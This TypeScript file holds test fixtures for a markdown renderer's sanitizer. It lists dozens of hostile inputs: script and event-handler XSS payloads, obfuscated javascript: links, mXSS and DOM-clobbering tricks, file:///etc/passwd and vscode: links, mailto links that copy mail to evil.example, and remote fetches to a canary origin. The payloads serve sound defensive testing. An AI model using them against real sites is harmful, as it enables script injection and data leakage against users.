// Hostile markdown/HTML for the renderer, shared by the node-side sanitizer test and the browser test.
// `{C}` stands for a canary origin: any request to it means content made the page fetch something. Script
// payloads try to set `window.__pwned`, directly or by calling `pwn()` (which the browser test's page defines
// to set it).

export interface Payload {
  name: string;
  md: string;
  /** URLs (after `{C}` substitution) that must end up as a plain link `<a href data-href>`: remote images. */
  links?: string[];
  /** Text the dangerous link renders as, to click in the browser test (it must not navigate or run). */
  click?: string;
}

const PWN = 'window.__pwned=1';

export const PAYLOADS: Payload[] = [
  // Script in every form
  { name: 'script tag', md: `<script>${PWN}</script>` },
  { name: 'script src', md: `<SCRIPT SRC="{C}/script.js"></SCRIPT>` },
  { name: 'nested script tags', md: `<<script>script>${PWN}<</script>/script>` },
  { name: 'script inside a list item', md: `- item <script>${PWN}</script>\n- two` },
  { name: 'script in a table cell', md: `| a |\n|---|\n| <script>${PWN}</script> |` },
  { name: 'script inside think', md: `<think><script>${PWN}</script>\n</think>\nanswer` },
  { name: 'fenced html code stays text', md: '```html\n<script>' + PWN + '</script>\n<img src="{C}/in-code.png">\n```' },
  // Event handlers on all kinds of tags
  { name: 'img onerror', md: `<img src=x onerror="${PWN}">` },
  { name: 'img onerror calling a function', md: `<img src=x onerror=pwn()> <IMG SRC=x ONERROR=pwn\`\`>` },
  { name: 'javascript: link calling a function', md: `[fnclick](javascript:pwn())`, click: 'fnclick' },
  { name: 'svg onload', md: `<svg onload="${PWN}"></svg>` },
  { name: 'svg with script', md: `<svg><script>${PWN}</script></svg>` },
  { name: 'body onload', md: `<body onload="${PWN}">` },
  { name: 'div onmouseover', md: `<div onmouseover="${PWN}">hover</div>` },
  { name: 'details ontoggle', md: `<details open ontoggle="${PWN}"><summary onclick="${PWN}">s</summary>body</details>` },
  { name: 'input autofocus onfocus', md: `<input autofocus onfocus="${PWN}">` },
  { name: 'marquee onstart', md: `<marquee onstart="${PWN}">m</marquee>` },
  { name: 'frameset onload', md: `<frameset onload="${PWN}"></frameset>` },
  { name: 'video onerror', md: `<video><source onerror="${PWN}"></video>` },
  { name: 'allowed tag with handler', md: `<kbd onclick="${PWN}" style="color:red" id="x">K</kbd>` },
  { name: 'link with handler', md: `<a href="https://ok.example/" onclick="${PWN}">ok</a>` },
  { name: 'title attribute breakout', md: `[t](https://ok.example/ "x\\" onmouseover=\\"${PWN}")` },
  { name: 'alt attribute breakout', md: `![x" onerror="${PWN}](data:image/png;base64,iVBORw0KGgo=)` },
  { name: 'mXSS noscript', md: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">` },
  { name: 'textarea wrapping img', md: `<textarea><img src=x onerror=${PWN}></textarea>` },
  { name: 'template content', md: `<template><img src=x onerror=${PWN}></template>` },
  // Dangerous link schemes
  { name: 'javascript: link', md: `[jsclick](javascript:${PWN})`, click: 'jsclick' },
  { name: 'JAVASCRIPT: upper case', md: `[upclick](JAVASCRIPT:${PWN})`, click: 'upclick' },
  { name: 'java<tab>script:', md: `[tabclick](<java\tscript:${PWN}>)`, click: 'tabclick' },
  { name: 'leading space javascript:', md: `[spclick](< javascript:${PWN}>)`, click: 'spclick' },
  { name: 'entity-encoded javascript:', md: `[entclick](&#106;avascript:${PWN})`, click: 'entclick' },
  { name: 'hex entities and &colon;', md: `[hexclick](&#x6A;avascript&colon;${PWN})`, click: 'hexclick' },
  { name: 'raw html javascript: href', md: `<a href="java&#09;script:${PWN}">rawclick</a>`, click: 'rawclick' },
  { name: 'javascript: autolink', md: `<javascript:${PWN}>` },
  { name: 'command: link', md: `[cmdclick](command:workbench.action.terminal.new)`, click: 'cmdclick' },
  { name: 'vscode: link', md: `[vsclick](vscode://file/etc/passwd) [ext](vscode:extension/evil.ext)`, click: 'vsclick' },
  { name: 'data:text/html link', md: `[dataclick](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`, click: 'dataclick' },
  { name: 'file: and relative links', md: `[fileclick](file:///etc/passwd) [rel](./x) [proto](//evil.example/x) [q](?x=1)`, click: 'fileclick' },
  { name: 'mailto with cc, bcc, to and attach', md: `[mailcc](mailto:a@ok.example?cc=spy@evil.example&subject=s&BCC=x@evil.example&attach=/etc/passwd&body=b&to=y@evil.example) <mailto:b@ok.example?cc=spy@evil.example>` },
  { name: 'mailto hiding a ? in the address', md: `[mailq](mailto:a@ok.example%3Fcc=spy@evil.example&subject=s)` },
  { name: 'raw html mailto with cc', md: `<a href="mailto:a@ok.example?cc=spy@evil.example">rawmail</a>` },
  { name: 'reference-style javascript: link', md: `[refclick][r]\n\n[r]: javascript:${PWN}`, click: 'refclick' },
  // Navigation and page-wide tags
  { name: 'meta refresh', md: `<meta http-equiv="refresh" content="0;url={C}/meta">` },
  { name: 'base href', md: `<base href="{C}/base/">\n\n[relative](page.html)` },
  { name: 'iframe', md: `<iframe src="{C}/iframe"></iframe>` },
  { name: 'iframe srcdoc', md: `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>` },
  { name: 'object', md: `<object data="{C}/object"></object>` },
  { name: 'embed', md: `<embed src="{C}/embed">` },
  { name: 'form, input, button', md: `<form action="{C}/form"><input name="q" value="v"><button formaction="{C}/button">go</button></form>` },
  { name: 'DOM clobbering id/name', md: `<img name="getElementById" id="body"><a id="__pwned" name="x" href="https://ok.example/">c</a>` },
  { name: 'target blank', md: `<a href="{C}/t" target="_blank">t</a>` },
  // Style
  { name: 'style tag with url()', md: `<style>body{background:url({C}/style.png)}</style>` },
  { name: 'style @import', md: `<style>@import '{C}/import.css';</style>` },
  { name: 'style attribute url()', md: `<div style="background:url({C}/inline-style.png)">x</div>` },
  { name: 'CSS expression', md: `<div style="width: expression(${PWN})">x</div>` },
  { name: 'link stylesheet', md: `<link rel="stylesheet" href="{C}/link.css">` },
  // Remote images in every form: never fetched
  { name: 'markdown image', md: `![md image]({C}/md-image.png)`, links: ['{C}/md-image.png'] },
  { name: 'markdown image with title', md: `![](<{C}/titled.png> "t")`, links: ['{C}/titled.png'] },
  { name: 'reference-style image', md: `![ref image][logo]\n\n[logo]: {C}/ref-image.png`, links: ['{C}/ref-image.png'] },
  { name: 'image inside a link', md: `[![inner]({C}/inner.png)]({C}/outer)`, links: ['{C}/outer'] },
  { name: 'img src', md: `<img src="{C}/img.png" alt="raw img">`, links: ['{C}/img.png'] },
  { name: 'img srcset', md: `<img srcset="{C}/srcset.png 1x, {C}/srcset2.png 2x">`, links: ['{C}/srcset.png'] },
  { name: 'picture source srcset', md: `<picture><source srcset="{C}/picture.png"><img src="{C}/picture-img.png"></picture>` },
  { name: 'video poster', md: `<video poster="{C}/poster.png" src="{C}/video.mp4"></video>` },
  { name: 'audio src', md: `<audio src="{C}/audio.mp3" autoplay></audio>` },
  { name: 'background attribute', md: `<table background="{C}/background.png"><tr><td>x</td></tr></table>` },
  { name: 'svg image href', md: `<svg><image href="{C}/svg-image.png"/></svg>` },
  { name: 'svg image xlink:href', md: `<svg><image xlink:href="{C}/svg-xlink.png"/></svg>` },
  { name: 'autolinked image URL', md: `{C}/autolinked.png`, links: ['{C}/autolinked.png'] },
  { name: 'svg data: image', md: `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) <img src="data:image/svg+xml,<svg onload=x>">` },
  { name: 'math with xlink', md: `<math><mi xlink:href="javascript:${PWN}">m</mi></math>` },
  { name: 'input type=image', md: `<input type="image" src="{C}/input-image.png">` },
];

/** A payload's markdown with the canary origin filled in. */
export function withCanary(p: Payload, canary: string): Payload {
  const sub = (s: string): string => s.split('{C}').join(canary);
  return { ...p, md: sub(p.md), ...(p.links ? { links: p.links.map(sub) } : {}) };
}
